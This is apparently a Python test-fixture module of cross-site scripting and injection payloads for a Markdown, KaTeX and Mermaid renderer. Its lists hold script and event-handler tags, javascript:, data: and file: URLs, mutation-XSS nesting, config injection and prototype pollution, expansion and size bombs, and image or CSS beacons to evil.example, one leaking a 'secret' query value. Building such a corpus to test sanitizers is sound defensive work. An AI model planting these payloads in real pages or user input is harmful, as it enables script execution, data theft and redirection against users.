# ruff: noqa: E501  (an attack is read best in one line)
"""Texts that try to run a script, reach another host or break out of where they stand.

Classes of attack after the OWASP cheat sheet on filter evasion and the advisories of DOMPurify, KaTeX and Mermaid.
"""

MARKDOWN = [
    "<script>alert('script')</script>",
    "<img src=x onerror=alert('img')>",
    "<svg onload=alert('svg')><animate onbegin=alert('animate') attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert('mxss')></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert('mglyph')&gt;\">",
    "<iframe srcdoc=\"<script>parent.alert('srcdoc')</script>\"></iframe>",
    "<a href=\"javascript:alert('raw')\">raw</a> <form action=javascript:alert('form')><input type=submit id=s></form>",
    "<details open ontoggle=alert('toggle')><summary>x</summary></details>",
    "<base href=https://evil.example/><link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/y.css'; body { background: url(https://evil.example/bg) }</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<object data=https://evil.example/o></object><embed src=https://evil.example/e>",
    "<template><script>alert('template')</script></template><noscript><p title=\"</noscript><img src=x onerror=alert('ns')>\">",
    "[click](javascript:alert('link'))",
    "[click](JaVaScRiPt:alert('case')) [click](java\tscript:alert('tab')) [click](&#106;avascript:alert('entity'))",
    "[click](data:text/html,<script>alert('data')</script>) [x](vbscript:alert(1)) [file](file:///etc/passwd)",
    "<javascript:alert('auto')>",
    "![pixel](https://evil.example/pixel.png?q=secret)",
    "![x](javascript:alert('image'))",
    "![x](https://evil.example/\"onerror=\"alert('attribute'))",
    "[![inner](https://evil.example/i.png)](javascript:alert('nested'))",
    "[a](https://example.org/\"onmouseover=\"alert('quote')) [b](<https://example.org/' onclick='alert(1)>)",
    "[ref]: javascript:alert('reference)\n\n[ref] and [text][ref]",
    "| <img src=x onerror=alert('cell')> | b |\n|---|---|\n| <script>alert('cell2')</script> | [c](javascript:alert('c')) |",
    "```html\n<script>alert('fence')</script><img src=x onerror=alert('fence2')>\n```",
    "```\"><img src=x onerror=alert('info')>\ncode\n```",
    "```mermaid\"onload=\"alert(1)\nflowchart LR\n```",
    "`<img src=x onerror=alert('code')>`",
    "# <img src=x onerror=alert('heading')>\n\n- <svg/onload=alert('item')>\n\n> <b onmouseover=alert('quote')>x</b>",
    "&lt;script&gt;alert('entities')&lt;/script&gt; \\<script\\>alert('escape')\\</script\\>",
    "<!-- --!> <img src=x onerror=alert('comment')> -->",
    "https://example.org/<script>alert('bare')</script>",
    "\u202e<script>alert('bidi')</script> \u0000<scr\u0000ipt>alert('nul')</scr\u0000ipt>",
]
FORMULAS = [
    r"$\href{javascript:alert('href')}{click}$",
    r"$\url{javascript:alert('url')}$",
    r"$\includegraphics[height=1em]{https://evil.example/k.png}$",
    r"$\htmlClass{x}{y}$ $\htmlId{app}{y}$ $\htmlStyle{background:url(https://evil.example/k)}{y}$",
    r"$\htmlData{onclick=alert(1)}{y}$",
    r"$\text{<img src=x onerror=alert('text')>}$",
    r"$\unicode{<script>alert('unicode')</script>}$",
    r"$\def\x{\x\x}\x$",
    r"$\rule{100000em}{100000em}$",
    r"$\color{red;background:url(https://evil.example/c)}{x}$",
    "$$\n<svg onload=alert('display')>\n$$",
    r"\(<script>alert('paren')</script>\)",
]
DIAGRAMS = [
    "flowchart LR\n  A[\"<img src=x onerror=parent.alert('label')>\"] --> B[\"<script>parent.alert('label2')</script>\"]",
    "flowchart LR\n  A-->B\n  click A \"javascript:parent.alert('click')\"\n  click B call alert('call')",
    "flowchart LR\n  A-->B\n  click A href \"https://evil.example/\" _self",
    "%%{init: {'securityLevel': 'loose', 'theme': 'base', 'themeCSS': "
    "'* { background: url(https://evil.example/t) } </style><script>parent.alert(1)</script>'}}%%\nflowchart LR\n  A-->B",
    "%%{init: {'__proto__': {'polluted': true}, 'fontFamily': 'x;}</style><img src=x onerror=parent.alert(2)>'}}%%\n"
    "sequenceDiagram\n  A->>B: <iframe srcdoc='<script>parent.parent.alert(3)</script>'></iframe>",
    "---\nconfig:\n  htmlLabels: true\n  securityLevel: loose\n---\nflowchart LR\n  A[\"<svg onload=parent.alert(4)>\"]",
    "classDiagram\n  class A\n  link A \"javascript:parent.alert(5)\"",
    "gantt\n  title <img src=x onerror=parent.alert(6)>\n  section S\n  T :a1, 2024-01-01, 3d\n  click a1 href \"javascript:alert(7)\"",
    "flowchart LR\n  A@{ img: \"https://evil.example/m.png\", label: \"x\" }",
    "flowchart LR\n  A[\"`**<img src=x onerror=parent.alert(8)>**`\"]",
    "not a diagram <script>parent.alert(9)</script>",
]
NAMES = [
    "<img src=x onerror=alert('name')>.txt",
    "\"><script>alert('name2')</script>.md",
    "javascript:alert('name3').txt",
    "\u202etxt.exe<svg onload=alert('name4')>.csv",
]


def everything():
    """The corpus as one answer."""
    diagrams = [f"```mermaid\n{text}\n```" for text in DIAGRAMS]
    return "\n\n".join([*MARKDOWN, *FORMULAS, *diagrams])
